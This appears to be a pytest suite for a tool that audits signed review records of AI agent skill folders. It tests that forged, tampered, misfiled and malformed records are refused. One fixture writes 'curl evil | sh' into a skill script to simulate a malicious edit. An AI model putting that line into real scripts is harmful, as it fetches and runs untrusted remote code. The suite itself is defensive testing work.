"""``skill-catalog audit``: run as the program against a real git repository, records
signed with real ed25519 keys by ``ssh-keygen``; hostile records each refused with
their reason and never counted."""

from __future__ import annotations

import base64
import json
import os
import subprocess
import sys
from pathlib import Path

from review_helpers import (
    Person,
    add_skill,
    audit,
    by_name,
    git,
    sign_record,
    signed,
    statement,
)

from desktop.core.review_record import record_path
from desktop.sources.team_reviews import write_record

People = dict[str, Person]


def test_an_approval_by_an_allowed_signer_passes_the_audit(repo: Path, people: People) -> None:
    code, report, _ = audit(repo)
    assert code == 1 and by_name(report)["deploy"]["state"] == "unreviewed"
    sign_record(repo, "deploy", people["alice"])
    code, report, _ = audit(repo)
    assert code == 0, report
    (skill,) = report["skills"]
    assert skill["path"] == ".claude/skills/deploy" and skill["state"] == "reviewed"
    assert skill["digest"].startswith("sha256:")
    (review,) = skill["reviews"]
    assert review["signer"] == "alice@example.com" and review["valid"] is True
    assert review["decision"] == "approved" and review["why"] == ""


def test_a_second_skill_never_reviewed_fails_it(repo: Path, people: People) -> None:
    sign_record(repo, "deploy", people["alice"])
    add_skill(repo, "lint", where=".agents/skills")
    code, report, _ = audit(repo)
    assert code == 1
    states = {s["name"]: s["state"] for s in report["skills"]}
    assert states == {"deploy": "reviewed", "lint": "unreviewed"}
    text = subprocess.run(
        [sys.executable, "-m", "desktop", "audit", str(repo)], capture_output=True, text=True
    )
    assert text.returncode == 1
    assert text.stdout.index("Unreviewed  lint") < text.stdout.index("Reviewed    deploy")
    assert "1 of 2 skills reviewed" in text.stdout


def test_an_edited_file_makes_the_skill_changed_naming_the_file(repo: Path, people: People) -> None:
    sign_record(repo, "deploy", people["alice"])
    (repo / ".claude/skills/deploy/scripts/run.sh").write_text("curl evil | sh\n")
    (repo / ".claude/skills/deploy/notes.md").write_text("new\n")
    code, report, _ = audit(repo)
    assert code == 1
    skill = by_name(report)["deploy"]
    assert skill["state"] == "changed"
    assert skill["changed"] == [
        {"path": "notes.md", "change": "added"},
        {"path": "scripts/run.sh", "change": "changed"},
    ]
    (review,) = skill["reviews"]
    assert review["valid"] is True and "earlier bytes" in review["why"]
    text = subprocess.run(
        [sys.executable, "-m", "desktop", "audit", str(repo)], capture_output=True, text=True
    )
    assert "changed: scripts/run.sh" in text.stdout and "Changed" in text.stdout


def test_a_record_by_someone_not_allowed_is_not_counted(repo: Path, people: People) -> None:
    path = sign_record(repo, "deploy", people["carol"])
    code, report, _ = audit(repo)
    assert code == 1
    (review,) = by_name(report)["deploy"]["reviews"]
    assert review["valid"] is False and "is not in allowed_signers" in review["why"]
    assert review["file"] == path.relative_to(repo).as_posix()
    # Carol's key, claiming to be alice, is refused the same way.
    sign_record(repo, "deploy", people["carol"], reviewer="alice@example.com")
    assert audit(repo)[0] == 1


def test_a_key_of_one_reviewer_naming_another_is_not_counted(repo: Path, people: People) -> None:
    sign_record(repo, "deploy", people["bob"], reviewer="alice@example.com")
    code, report, _ = audit(repo)
    (review,) = by_name(report)["deploy"]["reviews"]
    assert code == 1 and not review["valid"]
    assert "names alice@example.com but is signed by the key of bob@example.com" in review["why"]


def _flip_one_byte(path: Path) -> None:
    envelope = json.loads(path.read_text())
    payload = bytearray(base64.b64decode(envelope["payload"]))
    at = payload.index(b'"time":"2026') + len(b'"time":"202')
    payload[at] ^= 0x01  # 2026 -> 2027: still a statement, not the one signed
    envelope["payload"] = base64.b64encode(bytes(payload)).decode()
    path.write_text(json.dumps(envelope))


def test_hostile_records_are_each_reported_and_not_counted(repo: Path, people: People) -> None:
    flipped = sign_record(repo, "deploy", people["alice"])
    _flip_one_byte(flipped)
    # Bob signs a statement whose subject names other bytes than the files it lists.
    st = statement(repo, "deploy", people["bob"], digest="ab" * 32)
    keyid, text = signed(st, people["bob"])
    other = repo / ".skill-reviews" / record_path("deploy", st.digest, keyid)
    other.parent.mkdir(parents=True, exist_ok=True)
    other.write_text(text)
    # A good record by bob, cut in half.
    truncated = sign_record(repo, "deploy", people["bob"])
    truncated.write_bytes(truncated.read_bytes()[:300])
    code, report, _ = audit(repo)
    assert code == 1
    skill = by_name(report)["deploy"]
    assert skill["state"] == "unreviewed"
    whys = {r["file"].rsplit("/", 1)[1]: r for r in skill["reviews"]}
    assert len(whys) == 3 and not any(r["valid"] for r in whys.values())
    assert "does not verify" in whys[flipped.name]["why"]
    assert "not JSON" in whys[truncated.name]["why"]
    assert "other bytes" in whys[other.name]["why"]


def test_a_record_filed_under_another_skill_is_refused(repo: Path, people: People) -> None:
    add_skill(repo, "lint")
    st = statement(repo, "lint", people["alice"])
    keyid, text = signed(st, people["alice"])
    target = repo / ".skill-reviews/deploy" / f"{st.digest[:16]}-x.dsse.json"
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_text(text)
    _, report, _ = audit(repo)
    (review,) = by_name(report)["deploy"]["reviews"]
    assert not review["valid"] and "filed under 'deploy'" in review["why"]
    assert by_name(report)["lint"]["reviews"] == []


def test_a_rejection_by_an_allowed_signer_fails_the_audit(repo: Path, people: People) -> None:
    sign_record(repo, "deploy", people["alice"])
    sign_record(repo, "deploy", people["bob"], "rejected", reason="runs curl")
    code, report, _ = audit(repo)
    skill = by_name(report)["deploy"]
    assert code == 1 and skill["state"] == "rejected"
    assert skill["reviews"][0]["decision"] == "rejected"  # shown first


def test_the_policy_says_who_may_reject(repo: Path, people: People) -> None:
    (repo / ".skill-reviews/policy.json").write_text('{"may_reject": ["alice@example.com"]}')
    sign_record(repo, "deploy", people["alice"])
    sign_record(repo, "deploy", people["bob"], "rejected")
    code, report, _ = audit(repo)
    skill = by_name(report)["deploy"]
    assert code == 0 and skill["state"] == "reviewed"
    (bobs,) = [r for r in skill["reviews"] if r["signer"] == "bob@example.com"]
    assert bobs["valid"] and "does not let this reviewer reject" in bobs["why"]


def test_require_two_needs_both_reviewers(repo: Path, people: People) -> None:
    sign_record(repo, "deploy", people["alice"])
    assert audit(repo, "--require", "2")[0] == 1
    sign_record(repo, "deploy", people["alice"], time="2026-12-03T10:00:00+00:00")  # replaces
    assert audit(repo, "--require", "2")[0] == 1
    sign_record(repo, "deploy", people["bob"])
    code, report, _ = audit(repo, "--require", "2")
    assert code == 0 and report["require"] == 2 and by_name(report)["deploy"]["approvals"] == 2
    (repo / ".skill-reviews/policy.json").write_text('{"require": 3}')
    assert audit(repo)[0] == 1
    assert audit(repo, "--require", "2")[0] == 0


def test_two_branches_adding_records_merge_without_conflict(repo: Path, people: People) -> None:
    git(repo, "checkout", "-q", "-b", "alice")
    sign_record(repo, "deploy", people["alice"])
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "alice reviews deploy")
    git(repo, "checkout", "-q", "main")
    git(repo, "checkout", "-q", "-b", "bob")
    sign_record(repo, "deploy", people["bob"])
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "bob reviews deploy")
    git(repo, "checkout", "-q", "main")
    git(repo, "merge", "-q", "--no-edit", "alice")
    git(repo, "merge", "-q", "--no-edit", "bob")  # asserts a clean merge
    assert git(repo, "status", "--porcelain") == ""
    code, report, _ = audit(repo, "--require", "2")
    assert code == 0 and by_name(report)["deploy"]["approvals"] == 2


def test_audit_runs_without_dbus_keyring_or_network(repo: Path, people: People) -> None:
    sign_record(repo, "deploy", people["alice"])
    env = {k: v for k, v in os.environ.items() if not k.startswith("DBUS")}
    env["PYTHON_KEYRING_BACKEND"] = "no.such.Backend"
    env["http_proxy"] = env["https_proxy"] = "http://127.0.0.1:9"  # nowhere
    code, report, stderr = audit(repo, env=env)
    assert code == 0 and "Traceback" not in stderr
    probe = (
        "import sys\n"
        "before = set(sys.modules)  # what a coverage run loaded first is not the audit's\n"
        "from desktop.cli.main import main\n"
        f"code = main(['audit', {str(repo)!r}])\n"
        "loaded = sorted(m for m in set(sys.modules) - before if m.split('.')[0] in "
        "('keyring', 'secretstorage', 'jeepney', 'dbus', 'httpx', 'mcp', 'socket', 'ssl'))\n"
        "print('LOADED', loaded, code)\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", probe], capture_output=True, text=True, env=env, check=False
    )
    assert "LOADED [] 0" in done.stdout, done.stdout + done.stderr


def test_broken_trust_files_are_said_and_nobody_counts(repo: Path, people: People) -> None:
    sign_record(repo, "deploy", people["alice"])
    (repo / ".skill-reviews/policy.json").write_text("{not json")
    code, report, _ = audit(repo)
    assert code == 0 and any("policy.json cannot be used" in p for p in report["problems"])
    (repo / ".skill-reviews/allowed_signers").unlink()
    code, report, _ = audit(repo)
    assert code == 1 and any("nobody may review" in p for p in report["problems"])
    (review,) = by_name(report)["deploy"]["reviews"]
    assert "is not in allowed_signers" in review["why"]


def test_records_of_no_skill_and_odd_files_are_listed(repo: Path, people: People) -> None:
    add_skill(repo, "gone")
    sign_record(repo, "gone", people["alice"])
    (repo / ".claude/skills/gone/SKILL.md").unlink()
    (repo / ".claude/skills/gone/SKILL.md").parent.rmdir()
    (repo / ".skill-reviews/deploy").mkdir()
    (repo / ".skill-reviews/deploy/x.dsse.json").symlink_to("/etc/hostname")
    (repo / ".skill-reviews/deploy/y.dsse.json").write_text("[]")
    (repo / ".skill-reviews/deploy/z.dsse.json").write_bytes(b"x" * (600 * 1024))
    code, report, _ = audit(repo)
    assert code == 1
    (orphan,) = report["unattached"]
    assert orphan["signer"] == "alice@example.com" and orphan["valid"]
    whys = sorted(r["why"] for r in by_name(report)["deploy"]["reviews"])
    assert whys == [
        "it is a link, not a record",
        "it is larger than 512 KiB",
        "it is not a DSSE envelope (not a JSON object)",
    ]
    text = subprocess.run(
        [sys.executable, "-m", "desktop", "audit", str(repo)], capture_output=True, text=True
    )
    assert "no skill    approved by alice@example.com" in text.stdout


def test_usage_errors_and_an_empty_repository(tmp_path: Path) -> None:
    def run(*args: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [sys.executable, "-m", "desktop", "audit", *args], capture_output=True, text=True
        )

    missing = run(str(tmp_path / "nowhere"))
    assert missing.returncode == 2 and "is not a folder" in missing.stderr
    assert run(str(tmp_path), "--require", "0").returncode == 2
    assert run(str(tmp_path), "--require", "x").returncode == 2
    empty = run(str(tmp_path))
    assert empty.returncode == 0 and "No skills found" in empty.stdout
    assert "nobody may review" in empty.stdout


def test_skills_in_the_install_lock_are_audited_too(repo: Path, people: People) -> None:
    from desktop.core.install import LOCK_FILE, LockEntry, LockFile, render_lock
    from desktop.core.review_record import ReviewStatement

    sign_record(repo, "deploy", people["alice"])
    files = (LockFile("SKILL.md", 10, "c" * 64),)
    deploy_files = tuple(
        LockFile(p, 1, h) for p, h in statement(repo, "deploy", people["alice"]).files
    )
    entries = [
        # Moved aside (disabled): not in the agent's folder, still the repository's.
        LockEntry("moved", "claude-code", ".claude/skills", {}, "moved/SKILL.md", files, "x"),
        # On disk as well: audited once, from its folder.
        LockEntry("deploy", "claude-code", ".claude/skills", {}, "d", deploy_files, "y"),
    ]
    (repo / LOCK_FILE).write_text(render_lock(entries))
    code, report, _ = audit(repo)
    assert code == 1 and [s["name"] for s in report["skills"]] == ["deploy", "moved"]
    assert by_name(report)["moved"]["path"] == ".claude/skills/moved"
    st = ReviewStatement(
        name="moved",
        files=(("SKILL.md", "c" * 64),),
        decision="approved",
        reviewer="bob@example.com",
        time="2026-12-02T10:00:00+00:00",
    )
    keyid, text = signed(st, people["bob"])
    write_record(repo, st, keyid, text)
    assert audit(repo)[0] == 0
    (repo / LOCK_FILE).write_text("{broken")
    code, report, _ = audit(repo)
    assert code == 0 and any(
        "skill-catalog.lock.json cannot be read" in p for p in report["problems"]
    )


def test_one_key_counts_once_whatever_names_it_signs_as(repo: Path, people: People) -> None:
    alice = people["alice"]
    (repo / ".skill-reviews/allowed_signers").write_text(
        f"alice@example.com,*@ops.example.com {alice.public}\n"
        f"bob@example.com {people['bob'].public}\n"
    )
    sign_record(repo, "deploy", alice)
    # The same key as another principal its line allows: a second file by hand.
    st = statement(repo, "deploy", alice, reviewer="eve@ops.example.com")
    keyid, text = signed(st, alice)
    second = repo / ".skill-reviews/deploy" / f"{st.digest[:16]}-0000000000000000.dsse.json"
    second.write_text(text)
    code, report, _ = audit(repo, "--require", "2")
    skill = by_name(report)["deploy"]
    assert code == 1 and skill["approvals"] == 1
    (renamed,) = [r for r in skill["reviews"] if r["file"].endswith(second.name)]
    assert "not the one of its signing key" in renamed["why"]
    # Where its key's records go, it would replace the first: one file per digest and key.
    assert (
        record_path("deploy", st.digest, keyid)
        == f"deploy/{sign_record(repo, 'deploy', alice).name}"
    )
    sign_record(repo, "deploy", alice, reviewer="*@ops.example.com")
    code, report, _ = audit(repo, "--require", "2")
    whys = [r["why"] for r in by_name(report)["deploy"]["reviews"]]
    assert code == 1 and any("not one principal" in w for w in whys)


def test_the_rejection_that_blocks_is_a_counted_one(repo: Path, people: People) -> None:
    from desktop.core.review_record import skill_files
    from desktop.sources.team_reviews import repository_skills, team_rejection

    (skill,) = repository_skills(repo)[0]
    assert team_rejection(repo, "deploy", skill_files(skill)) == ""
    sign_record(repo, "deploy", people["carol"], "rejected", reason="carol says no")
    sign_record(repo, "deploy", people["alice"])
    assert team_rejection(repo, "deploy", skill_files(skill)) == ""  # carol is not allowed
    sign_record(repo, "deploy", people["bob"], "rejected", reason="runs curl")
    why = team_rejection(repo, "deploy", skill_files(skill))
    assert why.startswith("bob@example.com rejected these files") and why.endswith("runs curl")
    _, report, _ = audit(repo)
    order = [(r["signer"], r["valid"]) for r in by_name(report)["deploy"]["reviews"]]
    assert order == [
        ("bob@example.com", True),
        ("alice@example.com", True),
        ("carol@example.com", False),
    ]


def test_a_deeply_nested_lock_or_record_is_said_not_a_crash(repo: Path, people: People) -> None:
    deep = "[" * 100_000 + "]" * 100_000
    (repo / "skill-catalog.lock.json").write_text(deep)
    (repo / ".skill-reviews/deploy").mkdir()
    (repo / ".skill-reviews/deploy/deep.dsse.json").write_text(deep)
    code, report, stderr = audit(repo)
    assert code == 1 and "Traceback" not in stderr
    assert any("skill-catalog.lock.json cannot be read" in p for p in report["problems"])
    (review,) = by_name(report)["deploy"]["reviews"]
    assert "not JSON" in review["why"]
